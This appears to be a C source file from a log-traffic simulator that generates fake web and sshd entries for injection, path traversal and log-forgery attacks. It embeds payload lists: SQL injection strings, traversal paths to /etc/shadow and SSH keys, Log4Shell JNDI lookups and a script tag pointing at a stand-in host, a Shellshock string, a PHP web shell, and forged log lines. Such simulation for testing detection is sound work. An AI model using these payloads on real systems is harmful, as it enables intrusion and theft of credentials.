/* attacks-payload.c: attacks that are in what is sent: SQL, file names, forged records. */

#include "simulate/attack.h"
#include "simulate/sshd.h"

static const char *const sql[] = { "%27", "1%27%20OR%20%271%27=%271", "1%20AND%201=1--",
	"1%20AND%201=2--", "1%20ORDER%20BY%20%d--+", "-1%20UNION%20ALL%20SELECT%20NULL,NULL,%d--+",
	"-1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-",
	"1%27;WAITFOR%20DELAY%20%270:0:5%27--", "1)%20AND%20SLEEP(5)%20AND%20(%d=%d",
	"(SELECT%20CONCAT(0x71,(SELECT%20(ELT(%d=%d,1))),0x71))",
	("1%20AND%20(SELECT%20%d%20FROM(SELECT%20COUNT(*),CONCAT(0x7171,FLOOR(RAND(0)*2))x%20FROM%"
	 "20"
	 "INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x)a)"),
	"1%27%20AND%20EXTRACTVALUE(%d,CONCAT(0x5c,0x7176))%20AND%20%27a%27=%27a", "admin%27--",
	"1;DROP%20TABLE%20users;--", "%22%20or%20%22%22=%22" };

enum { SQL = sizeof(sql) / sizeof(sql[0]) };

static void
choose_browser(struct scene *scene, struct campaign *c, const char *tool)
{
	struct address address = c->client.address;

	if (chance(scene->sim, 0.4))
		client_open(&c->client, address, tool);
	else
		client_open_browser(scene->sim, &c->client);
	c->client.address = address;
}

void
sql_begin(struct scene *scene, struct campaign *c)
{
	choose_browser(scene, c, "sqlmap/1.7.11#stable (https://sqlmap.org)");
	c->pause_ms = draw_scale(scene->sim, 40, 4000);
	c->number = draw_page(scene->sim, &scene->host->site);
}

/* Appends form to the path with each %d replaced; other '%' stand. */
static void
append_payload(struct path *path, const char *form, int number)
{
	size_t size = strlen(path->text);

	for (; *form && size < PATH_SIZE - 12; form++) {
		if (form[0] == '%' && form[1] == 'd') {
			size += (size_t)snprintf(path->text + size, 12, "%d", number);
			form++;
		} else {
			path->text[size++] = *form;
		}
	}
	path->text[size] = '\0';
}

void
sql_step(struct scene *scene, struct campaign *c)
{
	static const char *const parameters[] = { "id", "cat", "user", "q", "page", "sort" };
	static const int answers[] = { 200, 200, 200, 200, 500, 500, 403, 404, 302, 200 };
	struct simulation *sim = scene->sim;
	struct path path = site_page(&scene->host->site, c->number);
	struct fetch what = { .path = path.text };
	const char *form = sql[draw_below(sim, SQL)];
	int number = draw_between(sim, 1, 9999);

	snprintf(path.text + strcspn(path.text, "?"), 16, "?%s=", parameters[c->number % 6]);
	append_payload(&path, form, number);
	what.status = answers[draw_below(sim, 10)];
	what.bytes = what.status == 200 ? site_page_bytes(&scene->host->site, c->number) : 530;
	if (chance(sim, 0.1))
		what.method = "POST";
	fetch(scene, &c->client, &what);
}

void
traversal_begin(struct scene *scene, struct campaign *c)
{
	choose_browser(scene, c, "Mozilla/5.0 (compatible; dotdotpwn/3.0)");
	c->pause_ms = draw_scale(scene->sim, 60, 6000);
}

void
traversal_step(struct scene *scene, struct campaign *c)
{
	static const char *const climbs[] = { "../", "..%2f", "%2e%2e/", "..%252f", "....//",
		"..%5c", "%c0%ae%c0%ae/", "..;/" };
	static const char *const files[] = { "etc/passwd", "etc/shadow", "windows/win.ini",
		"proc/self/environ", "etc/hosts", "var/log/auth.log", "root/.ssh/id_rsa",
		"boot.ini%00.html" };
	static const char *const entries[] = { "/", "/cgi-bin/", "/static/",
		"/download?file=", "/index.php?page=", "/images/", "/icons/", "/view?template=" };
	static const int answers[] = { 400, 404, 403, 404, 400, 200, 404, 500 };
	struct simulation *sim = scene->sim;
	struct path path;
	struct fetch what = { .path = path.text, .bytes = 226 };
	const char *climb = climbs[draw_below(sim, 8)], *file = files[draw_below(sim, 8)];
	int depth = draw_between(sim, 3, 9), entry = draw_below(sim, 8);

	snprintf(path.text, PATH_SIZE, "%s", entries[entry]);
	for (int i = 0; i < depth; i++)
		append_payload(&path, climb, 0);
	append_payload(&path, file, 0);
	what.status = answers[draw_below(sim, 8)];
	fetch(scene, &c->client, &what);
}

void
injection_begin(struct scene *scene, struct campaign *c)
{
	c->pause_ms = draw_scale(scene->sim, 500, 20000);
	c->way = draw_below(scene->sim, 2);
	if (!(scene->sim->options.streams & SIMULATE_WEB))
		c->way = 0;
	if (!(scene->sim->options.streams & SIMULATE_AUTH))
		c->way = 1;
}

/* sshd escapes control characters in names, but a name may say whatever else. */
static void
inject_name(struct scene *scene, struct campaign *c)
{
	static const char *const names[] = { "root from 10.20.0.7 port 22 ssh2",
		"x from 192.0.2.10 port 22 ssh2: ED25519 SHA256:abc",
		"a\\012Mar  2 03:00:00 web1 sshd[1]: Accepted password for root from 10.20.0.7",
		"Accepted publickey for root", "ana from 10.8.0.2 port 4022 ssh2\\r", "$(reboot)",
		"${jndi:ldap://198.19.7.7/a}",
		"{\"event\":{\"outcome\":\"success\"},\"user\":\"root\"}",
		"<script>alert(1)</script>", "root rhost=10.20.0.7  user=root" };
	struct connection connection = { .user = names[draw_below(scene->sim, 10)],
		.address = c->client.address.text };

	connection_open(scene, &connection);
	connection_fail(scene, &connection, 1);
	connection_drop(scene, &connection, END_CLOSED);
}

static void
inject_request(struct scene *scene, struct campaign *c)
{
	static const char *const agents[] = { "${jndi:ldap://198.19.7.7:1389/Basic}",
		"x\\\" 200 5 \\\"-\\\" \\\"\\n10.20.0.7 - - [02/Mar/2026:03:00:00 +0000] \\\"GET /",
		"() { :; }; /bin/ping -c 3 198.19.7.7", "<script src=//198.19.7.7/x.js></script>",
		"<?php system($_GET['c']); ?>" };
	static const char *const paths[] = { "/", "/%0d%0aSet-Cookie:%20a=b",
		"/?x=%0a10.20.0.7%20-%20-%20[02/Mar/2026:03:00:00%20+0000]%20%22GET%20/%22%20200",
		"/?q=${jndi:dns://198.19.7.7/}",
		"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" };
	static const int answers[] = { 200, 400, 404 };
	struct fetch what = { .bytes = 612 };

	client_open(&c->client, c->client.address, agents[draw_below(scene->sim, 5)]);
	what.path = paths[draw_below(scene->sim, 5)];
	what.status = answers[draw_below(scene->sim, 3)];
	fetch(scene, &c->client, &what);
}

void
injection_step(struct scene *scene, struct campaign *c)
{
	if (c->way == 0)
		inject_name(scene, c);
	else
		inject_request(scene, c);
}
